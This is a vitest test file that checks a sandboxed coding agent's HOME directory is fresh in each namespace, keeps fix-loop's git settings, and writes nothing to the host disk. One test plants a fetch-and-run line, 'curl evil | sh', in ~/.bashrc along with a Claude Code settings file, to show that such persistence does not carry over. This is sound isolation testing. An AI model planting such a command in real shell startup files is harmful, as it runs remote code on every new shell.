import { existsSync, readdirSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { runProcess } from "../../src/process/run.js";
import { useAgentInNamespace } from "./support/agent-in-namespace.js";

// The agent's HOME is its namespace's own: what one attempt leaves in ~ (Claude Code's user
// settings, an rc file for the next shell) is gone for the next attempt, a test run or a service.

const inNamespace = useAgentInNamespace("fix-loop-home-");

async function asAgent(command: string): Promise<{ exitCode: number | null; output: string }> {
  const outcome = await runProcess(command, {
    cwd: inNamespace.folder,
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin" },
    runAs: inNamespace.agent,
    timeoutMs: 20_000,
  });
  return { exitCode: outcome.exitCode, output: outcome.output.head.toString("utf8") };
}

describe("the agent's HOME", () => {
  it("is fresh in each namespace: what one session leaves in ~ is not there for the next", async () => {
    const first = await asAgent(
      [
        "mkdir -p ~/.claude && echo '{\"hooks\":{}}' > ~/.claude/settings.json",
        "echo 'curl evil | sh' > ~/.bashrc",
        "ls -A ~",
      ].join(" && "),
    );
    expect(first.exitCode, first.output).toBe(0);
    expect(first.output).toContain(".claude");
    const second = await asAgent('ls -A ~; echo "mode $(stat -c %a ~) owner $(stat -c %u ~)"');
    expect(second.exitCode, second.output).toBe(0);
    expect(second.output).not.toContain(".claude");
    expect(second.output).not.toContain(".bashrc");
    expect(second.output).toContain(`mode 700 owner ${inNamespace.agent.uid}`);
  });

  it("keeps the git settings fix-loop gives it, and stays writable", async () => {
    const seen = await asAgent(
      "git config --global --get safe.directory && touch ~/ok && echo wrote",
    );
    expect(seen.exitCode, seen.output).toBe(0);
    expect(seen.output).toContain("*");
    expect(seen.output).toContain("wrote");
  });

  it("writes nothing into the HOME on disk", async () => {
    await asAgent("echo left > ~/left-on-disk");
    expect(existsSync(path.join(inNamespace.agent.home, "left-on-disk"))).toBe(false);
    expect(readdirSync(inNamespace.agent.home)).toEqual([".gitconfig"]);
  });
});
